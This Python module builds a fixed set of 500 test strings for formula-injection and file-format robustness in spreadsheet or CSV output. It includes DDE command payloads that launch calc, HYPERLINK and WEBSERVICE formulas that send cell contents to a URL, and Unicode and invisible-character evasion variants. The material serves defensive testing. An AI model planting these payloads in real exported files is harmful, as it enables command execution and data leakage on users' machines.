"""Five hundred texts that want to be a formula, or to break the file that holds them."""

from itertools import islice, product

FORMULAS = (
    "=1+1", "+1+1", "-2+3", "@SUM(A1:A9)", "=cmd|' /C calc'!A0", "+cmd|' /C calc'!A0",
    '=HYPERLINK("http://example.org/?"&A1,"here")', '=WEBSERVICE("http://example.org")',
    "=DDE(\"cmd\";\"/C calc\";\"!A0\")", "@IMPORTXML(A1)", "-1", "+49 30 1234", "=", "==1",
    "\uff1d1+1", "\uff0b1+1", "\uff0d1+1", "\uff20SUM(A1)", "\ufe661+1", "\ufe621", "\ufe631",
    "\ufe6bSUM(A1)", "\u207a1", "{=1+1}", "=A1;=B1", "=1\n=2",
)  # fmt: skip
BEFORE = (
    "", " ", "  ", "\t", "\n", "\u00a0", "\u2003", "\u3000", "\u200b", "\ufeff", "\u2060", "\u200e",
    "'", '"', "''", '"\'', "\u2018", "\u201c", " '", "\u202e", "`",
)  # fmt: skip
ODD = (
    "Zebra & Sons <Ltd>", "O'Brien", '"quoted"', "a,b;c\td", "two\nlines", "]]>", "&lt;b&gt;",
    "_x0041_", "_x005F_", "_x0000_", "مرحبا", "\u202eevil\u202c", "👩‍💻", "é", "e\u0301", "0012",
    "1e5", "2026-01-02", "TRUE", "true", "NaN", "=" * 200, "x" * 32_767, "x" * 40_000, "\ufffe",
    "\uffff", "#REF!", "1/2", "%", "\\", "NULL", "\x1f", "\x0b",
    # A formula inside, for who takes another sign for the end of a cell.
    "sales;=cmd|' /C calc'!A0", "sales; \"=1+1\"", "a,\u200b+1+1", "a|\uff1d1+1", "a\t@SUM(A1)",
    "a\n-1", "a;'=1", "a;;  =1;+2", "sales, -5%",
)  # fmt: skip

#: What only five hundred of them can be: every way to begin before every formula, and oddities.
HOSTILE = [*ODD, *islice((a + b for b, a in product(FORMULAS, BEFORE)), 500 - len(ODD))]
assert len(set(HOSTILE)) == len(HOSTILE) == 500
